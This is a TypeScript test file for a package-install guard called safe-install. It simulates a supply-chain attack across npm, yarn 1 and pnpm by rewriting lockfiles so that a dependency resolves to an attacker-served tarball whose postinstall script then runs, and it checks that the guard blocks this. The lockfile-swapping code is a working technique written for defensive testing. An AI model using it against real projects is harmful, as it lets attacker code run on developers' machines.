// A direct dependency swapped to an exotic source in the lockfile only (issue 14, bypass 2): package.json asks for
// `"victim": "^1.0.0"`, the lockfile resolves victim to a remote tarball URL. The package manager installs the URL
// (its version satisfies the range) and runs its script where victim's scripts are allowed; the guard took it for a
// direct tarball dependency, allowed by default. "Direct" must mean the project's package.json asks for that source.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestRegistry } from '../registry/server.js';
import { BIN, EVENT_LOGGER, TOOLS, run, tempDir, withTools } from '../integration/helpers.js';
import { attackProject, noStackTrace, type AttackProject, EVIL_LOGGER, postinstallVersion } from './attack.js';

const POLICY = { scripts: { allow: ['victim'] } };

let registry: TestRegistry;
let evil: TestRegistry;
let evilUrl: string;
let yarnCache: string;

beforeAll(async () => {
  registry = await TestRegistry.start();
  evil = await TestRegistry.start();
  const version = postinstallVersion;
  registry.addPackage({ name: 'victim', versions: [version(EVENT_LOGGER)] });
  // The attacker's tarball (package.json name victim, version 1.0.0) at a plain download URL, not a registry path.
  evil.addPackage({ name: 'victim', versions: [version(EVIL_LOGGER)] });
  evilUrl = `${evil.url}dl/-/victim.tgz`; // served only under a /-/ path
  evil.addRawPackument({ name: 'dl', versions: { '1.0.0': { name: 'dl', version: '1.0.0', dist: { tarball: evilUrl } } } }, { '1.0.0': evil.tarballOf('victim', '1.0.0') });
  yarnCache = tempDir('si-yarn-cache-');
});
afterAll(async () => {
  await registry.close();
  await evil.close();
});

const evilDownloads = () => evil.requests.filter((r) => r.path === '/dl/-/victim.tgz').length;

function expectStopped(p: AttackProject, res: { code: number; stdout: string; stderr: string }, before: number) {
  expect(res.code, res.stdout + res.stderr).toBe(1);
  expect(res.stdout).toMatch(/victim@.* +source-mismatch/);
  expect(res.stdout).toContain('package.json asks for "^1.0.0" but the lockfile resolves it to a remote tarball');
  expect(noStackTrace(res.stdout + res.stderr)).toBe(true);
  // Tampering evidence: no exception waives it by default (policy overrides.nonOverridable), so none is offered.
  expect(res.stdout).not.toContain('safe-install approve victim');
  expect(p.ran()).toEqual([]);
  expect(existsSync(join(p.dir, 'node_modules', 'victim'))).toBe(false);
  expect(evilDownloads()).toBe(before);
}

describe('npm: "victim": "^1.0.0" resolved to a remote tarball in package-lock.json', () => {
  async function npmProject(deps: Record<string, string>, swap: boolean): Promise<AttackProject> {
    const p = attackProject(registry, { dependencies: deps });
    const lock = await p.npm('install', '--package-lock-only', '--ignore-scripts');
    expect(lock.code, lock.stderr).toBe(0);
    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
    if (swap) {
      const file = join(p.dir, 'package-lock.json');
      const doc = JSON.parse(readFileSync(file, 'utf8'));
      doc.packages['node_modules/victim'] = { version: '1.0.0', resolved: evilUrl, integrity: evil.integrityOf('victim', '1.0.0'), hasInstallScript: true };
      writeFileSync(file, JSON.stringify(doc, null, 2));
    }
    return p;
  }

  it('plain npm ci installs the URL and runs its script; safe-install blocks it', async () => {
    const plain = await npmProject({ victim: '^1.0.0' }, true);
    const before = evilDownloads();
    const ci = await plain.npm('ci');
    expect(ci.code, ci.stderr).toBe(0);
    expect(plain.ran()).toEqual(['EVIL victim:postinstall']);
    expect(evilDownloads()).toBe(before + 1);

    const guarded = await npmProject({ victim: '^1.0.0' }, true);
    const b = evilDownloads();
    expectStopped(guarded, await guarded.guard(), b);
  });

  it('a tarball URL package.json itself asks for stays a direct dependency, allowed by the default policy', async () => {
    const p = await npmProject({ victim: evilUrl }, false);
    const res = await p.guard();
    expect(res.code, res.stdout + res.stderr).toBe(0);
    expect(p.ran()).toEqual(['EVIL victim:postinstall']);
  });

  it("in a workspace, the workspace's own package.json decides", async () => {
    const p = attackProject(registry, { workspaces: ['packages/*'] });
    const ws = join(p.dir, 'packages', 'w');
    await run('mkdir', ['-p', ws], { cwd: p.dir, env: p.env });
    writeFileSync(join(ws, 'package.json'), JSON.stringify({ name: 'w', version: '1.0.0', dependencies: { victim: '^1.0.0' } }));
    const lock = await p.npm('install', '--package-lock-only', '--ignore-scripts');
    expect(lock.code, lock.stderr).toBe(0);
    const file = join(p.dir, 'package-lock.json');
    const doc = JSON.parse(readFileSync(file, 'utf8'));
    expect(doc.packages['node_modules/victim']).toBeDefined();
    doc.packages['node_modules/victim'] = { version: '1.0.0', resolved: evilUrl, integrity: evil.integrityOf('victim', '1.0.0'), hasInstallScript: true };
    writeFileSync(file, JSON.stringify(doc, null, 2));
    const res = await p.guard('check');
    expect(res.code, res.stdout + res.stderr).toBe(1);
    expect(res.stdout).toMatch(/victim@.* +source-mismatch/);
  });
});

describe('yarn 1: "victim": "^1.0.0" resolved to a remote tarball in yarn.lock', () => {
  async function yarnProject() {
    const p = attackProject(registry, { license: 'MIT', dependencies: { victim: '^1.0.0' } }, { YARN_CACHE_FOLDER: join(yarnCache, String(Math.random())) });
    const yarn = (...args: string[]) => run(process.execPath, [TOOLS.yarn1, ...args, '--non-interactive'], { cwd: p.dir, env: p.env });
    const lock = await yarn('install', '--ignore-scripts');
    expect(lock.code, lock.stderr).toBe(0);
    rmSync(join(p.dir, 'node_modules'), { recursive: true, force: true });
    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
    const file = join(p.dir, 'yarn.lock');
    const text = readFileSync(file, 'utf8')
      .replace(/resolved "[^"]+"/, `resolved "${evilUrl}"`)
      .replace(/integrity [^\n]+/, `integrity ${evil.integrityOf('victim', '1.0.0')}`);
    writeFileSync(file, text);
    return { ...p, yarn };
  }

  it('plain yarn install --frozen-lockfile installs the URL and runs its script; safe-install blocks it', async () => {
    const plain = await yarnProject();
    const before = evilDownloads();
    const install = await plain.yarn('install', '--frozen-lockfile');
    expect(install.code, install.stdout + install.stderr).toBe(0);
    expect(plain.ran()).toEqual(['EVIL victim:postinstall']);
    expect(evilDownloads()).toBe(before + 1);

    const guarded = await yarnProject();
    const b = evilDownloads();
    expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: withTools(guarded.env, { yarn: 'yarn1' }) }), b);
  });
});

describe('pnpm 10: "victim": "^1.0.0" resolved to a remote tarball in pnpm-lock.yaml', () => {
  async function pnpmProject() {
    const p = attackProject(registry, { dependencies: { victim: '^1.0.0' } }, { CI: '1' });
    const env = withTools(p.env, { pnpm: 'pnpm' });
    writeFileSync(join(p.dir, '.npmrc'), `registry=${registry.url}\nstore-dir=${join(p.dir, '.store')}\ncache-dir=${join(p.dir, '.cache')}\n`);
    // pnpm's own build allowlist lets victim's script run, as the guard's policy does.
    writeFileSync(join(p.dir, 'pnpm-workspace.yaml'), "onlyBuiltDependencies:\n  - 'victim'\n");
    const pnpm = (...args: string[]) => run('pnpm', args, { cwd: p.dir, env });
    const lock = await pnpm('install', '--lockfile-only');
    expect(lock.code, lock.stdout + lock.stderr).toBe(0);
    writeFileSync(join(p.dir, 'safe-install.policy.json'), JSON.stringify(POLICY));
    const file = join(p.dir, 'pnpm-lock.yaml');
    const before = readFileSync(file, 'utf8');
    const text = before.replace(/resolution: \{integrity: [^}]+\}/, `resolution: {integrity: ${evil.integrityOf('victim', '1.0.0')}, tarball: ${evilUrl}}`);
    expect(text).not.toBe(before);
    writeFileSync(file, text);
    return { ...p, env, pnpm };
  }

  it('plain pnpm install --frozen-lockfile installs the URL and runs its script; safe-install blocks it', async () => {
    const plain = await pnpmProject();
    const before = evilDownloads();
    const install = await plain.pnpm('install', '--frozen-lockfile');
    expect(install.code, install.stdout + install.stderr).toBe(0);
    expect(plain.ran()).toEqual(['EVIL victim:postinstall']);
    expect(evilDownloads()).toBe(before + 1);

    const guarded = await pnpmProject();
    const b = evilDownloads();
    expectStopped(guarded, await run(process.execPath, [BIN], { cwd: guarded.dir, env: guarded.env }), b);
  });
});
